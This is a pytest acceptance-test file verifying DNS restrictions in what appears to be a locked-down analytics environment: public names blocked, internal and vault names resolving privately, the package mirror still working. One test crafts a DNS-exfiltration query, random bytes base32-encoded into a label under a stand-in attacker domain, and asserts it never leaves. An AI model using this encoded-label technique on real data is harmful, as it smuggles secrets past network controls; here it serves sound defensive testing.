"""DNS answers only what the environment needs (issue 18): checked as an analyst would try it.

An ordinary account with no sudo on an analytics VM resolves names the way a notebook does
(Python's getaddrinfo, through the machine's own resolver configuration). Public names must not
resolve, and a name that carries data in an encoded label must never leave the environment: in
the lab, the resolver records every name it forwards upstream (lab/dns.py), so the test reads
that record. The environment's own names, and the mirror's upstreams from the mirror, still resolve,
and the mirror still installs. On Azure (``--target ssh``) the upstream is Microsoft's, so the
record checks are skipped; the DNS security policy's blocks show in its own logs there.
"""

from __future__ import annotations

import base64
import secrets
import shlex
import socket
import uuid
from collections.abc import Iterator
from typing import Any

import pytest

from blueprints.dns_allowlist import domain_of
from blueprints.topology import private_dns_zone
from tests.acceptance.machine_commands import PYPI_ALLOWED, check

pytestmark = pytest.mark.lab

# Public names no VM of the environment needs.
PUBLIC_NAMES = ["example.com", "www.nhs.uk", "dns.google"]
ATTACKER_DOMAIN = "tb-exfil-check.net"

RESOLVE = ("python3 -c 'import socket, sys; "
           "print(sorted({a[4][0] for a in socket.getaddrinfo(sys.argv[1], 443, socket.AF_INET)}))'")


@pytest.fixture(scope="module")
def analyst(analytics_host) -> Iterator[str]:
    """An ordinary account on the analytics VM: no sudo, the machine's own resolver settings."""
    name = f"tbdns{uuid.uuid4().hex[:6]}"
    check(analytics_host, f"useradd --create-home --shell /bin/bash {name}")
    yield name
    analytics_host.run(f"userdel --remove {name}")


def _as(host: Any, user: str, command: str) -> Any:
    return host.run(f"runuser -l {shlex.quote(user)} -c {shlex.quote(command)}")


def _resolve(host: Any, user: str | None, name: str) -> Any:
    command = f"{RESOLVE} {shlex.quote(name)}"
    return _as(host, user, command) if user else host.run(command)


def _forwarded(lab: Any) -> list[str]:
    """Every name the lab's resolver has sent upstream so far."""
    if lab.target != "lab":
        pytest.skip("only the lab records what its resolver forwards upstream")
    from lab.dns import forwarded_names
    from lab.layout import LabLayout

    return forwarded_names(LabLayout(lab.record["stack"]).dns_dir)


@pytest.mark.parametrize("name", PUBLIC_NAMES)
def test_a_public_name_does_not_resolve_for_an_analyst(analytics_host, analyst, name):
    result = _resolve(analytics_host, analyst, name)
    assert result.rc != 0, f"{name} resolved on the analytics VM: {result.stdout}"
    assert "gaierror" in result.stderr, result.stderr


def test_an_encoded_label_never_reaches_the_upstream(lab, analytics_host, mirror_host, analyst):
    # What a notebook would send: data in base32, in a label under a domain its author's servers answer.
    label = base64.b32encode(secrets.token_bytes(35)).decode().rstrip("=").lower()
    leaked = f"{label}.{uuid.uuid4().hex[:8]}.{ATTACKER_DOMAIN}"
    # A fresh name under an allowed domain, asked from the mirror: proof the record sees forwards at all.
    probe = f"tb-probe-{uuid.uuid4().hex[:8]}.pypi.org"
    before = len(_forwarded(lab))
    result = _resolve(analytics_host, analyst, leaked)
    assert result.rc != 0, f"{leaked} resolved: {result.stdout}"
    mirror_host.run(f"{RESOLVE} {shlex.quote(probe)}")  # NXDOMAIN from upstream is expected
    sent = _forwarded(lab)[before:]
    assert probe in sent, f"the resolver's record shows no forward of {probe}: {sent}"
    assert not [name for name in sent if label in name or name.endswith(ATTACKER_DOMAIN)], sent


def test_internal_names_resolve_for_an_analyst(lab, analytics_host, analyst):
    zone = private_dns_zone(lab.config)
    for machine in lab.machines:
        result = _resolve(analytics_host, analyst, f"{machine.name}.{zone}")
        assert result.rc == 0, result.stderr
        assert result.stdout.strip() == repr([machine.private_ip]), (machine.name, result.stdout)


def test_the_vault_resolves_to_its_private_endpoint(lab, analytics_host):
    if lab.target != "lab":
        pytest.skip("the vault's name depends on the subscription; on Azure the VM reads it from its tag")
    result = _resolve(analytics_host, None, f"{lab.record['key_vault']}.vault.azure.net")
    assert result.rc == 0, result.stderr
    assert result.stdout.strip() == repr([lab.record["key_vault_address"]])


def _resolvable_here(host: str) -> bool:
    try:
        socket.getaddrinfo(host, 443)
    except OSError:
        return False
    return True


def test_the_mirror_resolves_its_upstreams(lab, mirror_host):
    hosts = sorted({host for url in lab.config["roles"]["package_mirror"]["upstreams"].values()
                    if (host := domain_of(url))})
    # The mirror's resolver asks the world's DNS through the environment's: an upstream the world does
    # not answer for where the tests run (CRAN from this lab's host) cannot resolve on the mirror either.
    answered = [host for host in hosts if _resolvable_here(host)]
    assert answered, f"none of the mirror's upstreams {hosts} resolves where the tests run"
    for host in answered:
        result = _resolve(mirror_host, None, host)
        assert result.rc == 0, f"the mirror cannot resolve its upstream {host}: {result.stderr}"


def test_the_mirror_still_installs_for_an_analyst(analytics_host, analyst, test_allowlists):
    # pip through the mirror (the VM's /etc/pip.conf): the mirror fetches from PyPI by name.
    result = _as(analytics_host, analyst,
                 f"python3 -m pip download --no-deps --no-cache-dir -d ~/tb-dns-dl {PYPI_ALLOWED} && ls ~/tb-dns-dl")
    assert result.rc == 0, result.stderr
    assert PYPI_ALLOWED in result.stdout
